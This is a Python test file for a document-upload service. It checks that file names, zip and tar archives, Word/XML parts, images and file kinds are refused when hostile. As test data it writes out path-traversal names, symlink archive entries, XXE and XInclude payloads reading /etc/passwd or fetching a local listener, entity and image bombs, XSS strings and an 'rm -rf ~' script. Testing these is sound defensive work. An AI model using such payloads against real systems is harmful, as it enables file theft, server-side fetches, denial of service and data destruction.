"""Files by way of their kind and name: archives that lead outside, XML that fetches, pictures that flood, kinds that lie."""

from __future__ import annotations

import io
import socket
import tarfile
import threading
import unicodedata
import zipfile

import pytest

from chassis.errors import InvalidInput
from chassis.uploads import media_type_of, received
from services.documents.attaching import clean_name as document_name
from services.knowledge.contents import clean_name as knowledge_name
from tests.checks import bombs
from tests.checks.parsing import Case, measured

# 60 names that lead elsewhere, or nowhere, on one system or another.
NAMES = [
    "../a.txt", "../../../../etc/passwd", "..\\a.txt", "..\\..\\windows\\win.ini", "/etc/passwd", "//etc/passwd", "\\\\host\\share\\a",
    "C:\\a.txt", "C:/a.txt", "c:a.txt", "\\a.txt", "./../a", "a/../../b", "a\\..\\..\\b", "....//a", "....\\\\a", "..;/a", "..%2fa",
    "%2e%2e%2fa", "%252e%252e%252fa", "..%c0%afa", "..%ef%bc%8fa", "\u002e\u002e/a", "．．/a", "..\uff0fa", "..\u2215a", "..\u2044a",
    "a\x00.txt", "a.txt\x00.exe", "\x00", "a\nb.txt", "a\r\nSet-Cookie: x=1", "a\tb", "\x1b[31mred", "\x7f", "\u202egnp.exe", "\u200b.txt",
    "a\u0085b", "\u2028a", "CON", "con.txt", "NUL", "PRN.txt", "AUX", "COM1", "LPT1.txt", "CLOCK$", ".", "..", "...", " ", ". .", "~/a",
    "~root/.ssh/authorized_keys", ".htaccess", "-rf", "a" * 5000, "文" * 3000 + ".pdf", 'a"; filename="b.exe', "a:stream",
]  # fmt: skip


def test_a_name_is_only_a_name():
    """# check 26: what a name becomes has no folder, no drive, no control character and fits any file system."""
    assert len(set(NAMES)) >= 60
    kept, refusals = 0, set()
    for given in NAMES:
        for clean in (document_name, knowledge_name):
            try:
                name = clean(given)
            except InvalidInput as refusal:
                refusals.add(refusal.zh)
                continue
            kept += 1
            assert name, given
            assert name not in (".", "..")
            assert not set(name) & set('/\\:"<>|?*'), given
            assert all(unicodedata.category(sign)[0] != "C" for sign in name), given
            assert len(name.encode()) <= 600, given
            stem = name.partition(".")[0].strip().upper()
            assert stem not in {"CON", "NUL", "PRN", "AUX", "COM1", "LPT1", "CLOCK$"}, given
    assert refusals == {"文件名不能为空，请重新命名后再上传。"}
    print(f"check 26: {len(NAMES)} names x 2 services, {kept} kept as bare names, the others refused")


def refused(data):
    try:
        with received([data]):
            return ""
    except InvalidInput as refusal:
        return refusal.reason if refusal.zh.endswith("。") else f"no sentence: {refusal.zh}"


def links():
    """Archives with entries that are no files."""
    for mode in (0o120777, 0o060644, 0o020644, 0o010644, 0o140777):
        entry = zipfile.ZipInfo("a.txt")
        entry.external_attr = mode << 16
        yield bombs.zipped([(entry, b"/etc/passwd")])


def tars():
    """Archives of a kind that we do not take, with entries of every evil kind."""
    for how in ("w", "w:gz", "w:bz2", "w:xz"):
        out = io.BytesIO()
        with tarfile.open(fileobj=out, mode=how) as archive:
            for kind, target in ((tarfile.SYMTYPE, "/etc"), (tarfile.LNKTYPE, "../x"), (tarfile.CHRTYPE, "")):
                entry = tarfile.TarInfo("../../evil")
                entry.type, entry.linkname = kind, target
                archive.addfile(entry)
        yield out.getvalue()


def test_no_archive_leads_outside():
    """# check 27: refused on the way in, though we never unpack one ourselves; in Word files the same."""
    evil = [
        name
        for name in NAMES
        if name.startswith(("/", "\\", "..", "C:", "c:")) and ("/" in name or "\\" in name or ":" in name)
    ]
    evil = [
        name
        for name in evil
        if not name.startswith(("....", "..%", "..;", "..\uff0f", "..\u2215", "..\u2044"))
    ]
    slips = [bombs.zipped({name: b"x", "ok.txt": b"y"}) for name in evil] + list(links())
    # NUL ends a name for Python, but not for every other reader.
    nul = bytearray(bombs.zipped({"a.txtX../../b": b"x"}))
    slips.append(bytes(nul).replace(b"a.txtX../../b", b"a.txt\0../../b"))
    slips += [bombs.zipped({"inner.zip": slip}) for slip in slips[:3]]
    taken = [number for number, data in enumerate(slips) if refused(data) != "FILE_HOSTILE"]
    assert not taken, [(number, (evil + ["?"] * 20)[number]) for number in taken]
    assert [refused(data) for data in tars()] == ["FILE_KIND"] * 4
    assert refused(bombs.zipped({"公文/附件.txt": b"y", "a/b/c.pdf": b"%PDF-"})) == "", (
        "an honest archive comes in"
    )
    in_word = [Case(f"{parser} {number}", parser, data) for parser in ("body.docx", "knowledge.docx") for number, data in
               enumerate([bombs.docx_with({name: b"x"}) for name in evil[:8]])]  # fmt: skip
    found = measured(in_word)
    assert {one.outcome.removeprefix("TEXT_").removeprefix("FILE_") for one in found.values()} == {"HOSTILE"}
    print(f"check 27: {len(slips)} zip archives, 4 tar archives, {len(found)} Word files: 0 taken")


@pytest.fixture
def listener():
    """A socket that counts who comes."""
    server = socket.create_server(("127.0.0.1", 0))
    came = []

    def wait():
        while True:
            try:
                connection, _ = server.accept()
            except OSError:
                return
            came.append(connection)

    thread = threading.Thread(target=wait, daemon=True)
    thread.start()
    yield server.getsockname()[1], came
    server.shutdown(socket.SHUT_RDWR)
    server.close()
    thread.join(5)


def entities(port):
    """XML that fetches, in every way that XML has, by HTTP and from the disk."""
    url = f"http://127.0.0.1:{port}/x"
    for target in (
        url,
        "file:///etc/passwd",
        f"ftp://127.0.0.1:{port}/x",
        f"jar:{url}!/x",
        "expect://id",
        "php://filter/x",
    ):
        yield f'<!DOCTYPE a [<!ENTITY x SYSTEM "{target}">]><a>&x;</a>'
    yield f'<!DOCTYPE a SYSTEM "{url}"><a/>'
    yield f'<!DOCTYPE a PUBLIC "-//A//B//EN" "{url}"><a/>'
    yield f'<!DOCTYPE a [<!ENTITY % p SYSTEM "{url}">%p;]><a/>'
    yield f'<!DOCTYPE a [<!ENTITY % f SYSTEM "file:///etc/passwd"><!ENTITY % p "<!ENTITY x SYSTEM \'{url}?%f;\'>">%p;]><a>&x;</a>'
    yield f'<a xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="{url}" parse="text"/></a>'
    yield '<a xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="file:///etc/passwd" parse="text"/></a>'
    yield (
        "<!DOCTYPE a ["
        + "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
        + "]><a>&l9;</a>"
    )
    yield f'<!DOCTYPE a [<!ATTLIST a b CDATA "x"><!ENTITY x "{"A" * 100_000}">]><a>' + "&x;" * 10_000 + "</a>"


PARTS = ("word/styles.xml", "[Content_Types].xml", "_rels/.rels", "word/media/a.svg", "customXml/item1.xml")


def test_no_xml_fetches_anything(listener):
    """# check 29: DOCX (every part), XLSX, SVG, XML, in UTF-8, UTF-16 and UTF-7; SAML is in tests/checks/test_http.py."""
    port, came = listener
    cases, harmless = [], []
    for number, text in enumerate(entities(port)):
        declared = '<?xml version="1.0" encoding="ENC"?>' + text
        spellings = [text.encode(), declared.replace("ENC", "UTF-16").encode("utf-16"), declared.replace("ENC", "UTF-7").encode(),
                     declared.replace("ENC", "UTF-8").encode("utf-8-sig")]  # fmt: skip
        made = [bombs.docx_with({"word/document.xml": data}) for data in spellings]
        made += [bombs.docx_with({part: text.encode()}) for part in PARTS]
        for way, data in enumerate(made):
            cases += [
                Case(f"{parser} {number}.{way}", parser, data) for parser in ("body.docx", "knowledge.docx")
            ]
        # Not parsed at all: kept as text or as a file, and read as one.
        harmless += [Case(f"svg {number}", "upload", b"<svg xmlns='http://www.w3.org/2000/svg'>" + text.encode()),
                     Case(f"xlsx {number}", "upload", bombs.xlsx_with(text.encode())),
                     Case(f"html {number}", "knowledge.html", text.encode() + b"<p>a</p>"),
                     Case(f"xml {number}", "knowledge.txt", text.encode())]  # fmt: skip
    # A relation to elsewhere: a template, a picture.
    for kind in ("attachedTemplate", "image", "oleObject", "frame", "subDocument"):
        relation = (
            '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1"'
            f' Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}" Target="http://127.0.0.1:{port}/t"'
            ' TargetMode="External"/></Relationships>'
        )
        made = bombs.docx_with({"word/_rels/settings.xml.rels": relation.encode()})
        harmless += [Case(f"{kind} {parser}", parser, made) for parser in ("body.docx", "knowledge.docx")]
    found, others = measured(cases), measured(harmless)
    taken = {
        name: one.outcome
        for name, one in found.items()
        if one.outcome.partition("_")[2] not in ("HOSTILE", "UNREADABLE")
    }
    assert not taken
    assert not [one for one in others.items() if ":" in one[1].outcome]
    assert not came, "somebody fetched"
    print(f"check 29: {len(found)} Word files refused, {len(others)} others read without it; 0 fetches")


def test_pictures_that_claim_too_much_are_refused():
    """# check 30"""
    cases = []
    for parser in ("scan.image", "seal"):
        kinds = ("PNG", "JPEG", "TIFF", "BMP", "WEBP") if parser == "scan.image" else ("PNG", "JPEG")
        for kind in kinds:
            cases += [
                Case(f"{parser} {kind} {side}", parser, bombs.huge_picture(kind, side))
                for side in (12_000, 65_000, 2**24, 2**31 - 1)
            ]
        cases.append(Case(f"{parser} APNG", parser, bombs.animated("APNG", 20_000, 5000)))
        cases.append(Case(f"{parser} GIF", parser, bombs.huge_picture("GIF", 65_535)))
    cases.append(Case("scan.image real 36 million pixels RGBA", "scan.image", bombs.noisy_png(6000, 6000)))
    frames = [Case("scan.image WEBP 100 frames", "scan.image", bombs.animated("WEBP", 200, 100)),
              Case("scan.image TIFF 100 pages", "scan.image", bombs.animated("TIFF", 200, 100))]  # fmt: skip
    found = measured(cases)
    wrong = {
        name: one
        for name, one in found.items()
        if one.outcome not in ("PICTURE_TOO_LARGE", "PICTURE_UNREADABLE")
    }
    wrong |= {name: one for name, one in found.items() if one.seconds > 2 or one.grown > 64 << 20}
    assert not wrong
    # Of an animation the first frame is looked at.
    many = measured(frames)
    assert all(
        one.outcome == "accepted" and one.grown < 64 << 20 and one.seconds < 4 for one in many.values()
    ), many
    print(
        f"check 30: {len(found)} floods refused, at most {max(one.seconds for one in found.values()):.2f} s; {len(many)} animations read by their first frame"
    )


def test_a_kind_is_what_the_content_says():
    """# check 28: by content and never by name; programs, unknown kinds and macros stay outside, HTML and SVG are text."""
    programs = [b"MZ\x90\x00\x03" + bytes(200), b"\x7fELF\x02\x01\x01" + bytes(50), b"\xca\xfe\xba\xbe\x00\x00\x00\x34", b"\xcf\xfa\xed\xfe\x07\x00\x00\x01",
                b"#!/bin/sh\nrm -rf ~\n", b"L\x00\x00\x00\x01\x14\x02\x00" + bytes(30), b"Rar!\x1a\x07\x01\x00", b"7z\xbc\xaf\x27\x1c\x00\x04",
                b"\x1f\x8b\x08\x00" + bytes(20), b"\x00\x01\x02\x03", b"!<arch>\ndebian-binary\x00", b"SQLite format 3\x00"]  # fmt: skip
    assert [refused(data) for data in programs] == ["FILE_KIND"] * len(programs)
    assert refused(bombs.docx_with({"word/vbaProject.bin": b"x"})) == "FILE_MACROS"
    known = {
        b"<html><script>alert(1)</script>": "text/plain; charset=utf-8", b"<svg onload=alert(1)>": "text/plain; charset=utf-8",
        "通知".encode("gb18030"): "text/plain; charset=utf-8", bombs.plain_docx(): "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
        b"GIF89a/*<script>*/=1;": "image/gif", b"<script>1</script>%PDF-1.7": "application/pdf",
        bombs.xlsx_with(b"<a/>"): "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet", bombs.zipped({"a": b"b"}): "application/zip",
    }  # fmt: skip
    for data, kind in known.items():
        assert media_type_of(io.BytesIO(data), len(data)) == kind
    print(
        f"check 28: {len(programs) + 1} kinds refused, {len(known)} told by their content; none is ever HTML or SVG"
    )
